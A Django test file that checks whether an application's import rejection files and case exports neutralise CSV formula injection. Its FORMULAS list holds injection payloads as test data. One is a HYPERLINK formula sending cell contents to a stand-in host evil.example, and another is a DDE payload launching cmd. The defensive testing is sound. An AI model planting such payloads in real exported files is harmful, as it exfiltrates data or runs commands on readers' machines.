"""Files people open in a spreadsheet never hold a formula someone typed (CSV injection): the
rejected rows of an import (command and screen) and the case export neutralise every cell that
begins with = + - @, a tab or a carriage return, as OWASP recommends."""

import csv
import io
from datetime import date

from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from kuzot.cases.actions import add_allegation
from kuzot.cases.models import PendingImport
from tests.cases.case_screens import a_case, term
from tests.conftest import PASSWORD
from tests.jobs import worker

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def register() -> bytes:
    """Rows refused for their missing intake date, their cells formulas, a header too."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["ФИО", "Дата обращения", "Район", FORMULAS[0]])
    writer.writerows([formula, "", formula, formula] for formula in FORMULAS)
    return out.getvalue().encode()


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def assert_no_formula(data: bytes) -> None:
    found = cells(data)
    assert found and not [c for c in found if c.startswith(STARTS)], found


def test_the_rejected_rows_of_kuzot_import_hold_no_formula(world, tmp_path):
    source, rejected, password = tmp_path / "r.csv", tmp_path / "rejected.csv", tmp_path / "p"
    source.write_bytes(register())
    password.write_text(PASSWORD)
    call_command(
        "import", str(source), organisation="a", user="a-lawyer", password_file=password,
        rejected=rejected, stdout=io.StringIO(),
    )  # fmt: skip
    assert_no_formula(rejected.read_bytes())
    assert "'-2+3" in cells(rejected.read_bytes())  # shown as typed


def test_the_rejected_rows_downloaded_from_the_screen_hold_no_formula(world, signed_in):
    client = signed_in("a-lawyer")
    client.post(reverse("import_upload"), {"file": SimpleUploadedFile("r.csv", register())})
    pending = PendingImport.objects.get()
    client.post(
        reverse("import_map", args=[pending.pk]),
        {"column-0": "full_name", "column-1": "intake_date", "column-2": "district"},
    )
    worker.start_worker()  # the import runs as a background job
    worker.finish(client, client.post(reverse("import_run", args=[pending.pk])))
    download = client.get(reverse("import_rejected", args=[pending.pk]))
    assert download.status_code == 200
    assert_no_formula(download.content)


def test_the_case_export_holds_no_formula(world, signed_in):
    lawyer, vault = world.user("a-lawyer"), world.vault("a")
    for formula in FORMULAS:
        case = a_case(
            world,
            name=formula,
            summary=formula,
            consents={"documentation": (True, date(2024, 3, 1), "written")},
        )
        add_allegation(
            lawyer, vault, case, date=date(2024, 2, 1), act_types=[term("act_type", "beating")],
            district=formula, unit=formula,
        )  # fmt: skip
    response = signed_in("a-lawyer").get(reverse("case_export_csv"), {"identities": "1"})
    assert_no_formula(response.content)
